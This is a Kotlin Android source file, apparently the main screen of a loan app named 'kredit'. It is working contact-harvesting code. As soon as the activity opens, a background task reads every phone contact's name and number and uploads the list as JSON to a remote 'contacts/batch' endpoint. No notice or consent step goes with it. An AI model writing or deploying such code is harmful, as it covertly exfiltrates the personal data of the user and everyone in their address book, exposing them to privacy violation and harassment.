package com.kredit.kt
import android.app.Activity
import android.os.Bundle
import android.provider.ContactsContract
import com.google.gson.Gson
import com.google.gson.annotations.SerializedName
import kotlinx.coroutines.*
import okhttp3.*
data class Entry(@SerializedName("full_name") val name: String, @SerializedName("tel") val phone: String)
class MainActivity : Activity() {
  private val repo = Repo()
  override fun onCreate(b: Bundle?) {
    super.onCreate(b)
    GlobalScope.launch(Dispatchers.IO) {
      val list = readBook()
      delay(10)
      repo.upload(list)
    }
  }
  private suspend fun readBook(): List<Entry> = withContext(Dispatchers.IO) {
    val out = ArrayList<Entry>()
    val c = contentResolver.query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null)
    if (c != null) { while (c.moveToNext()) out.add(Entry(c.getString(c.getColumnIndex("display_name")), c.getString(c.getColumnIndex("data1")))); c.close() }
    out
  }
}
class Repo {
  private val client = OkHttpClient.Builder().build()
  suspend fun upload(list: List<Entry>) = withContext(Dispatchers.IO) {
    val json = Gson().toJson(list)
    val body = RequestBody.create(MediaType.parse("application/json"), json)
    val r = Request.Builder().url(BASE + "contacts/batch").post(body).build()
    client.newCall(r).execute().close()
  }
  companion object { const val BASE = "https://kt.kredit-two.example/api/" }
}
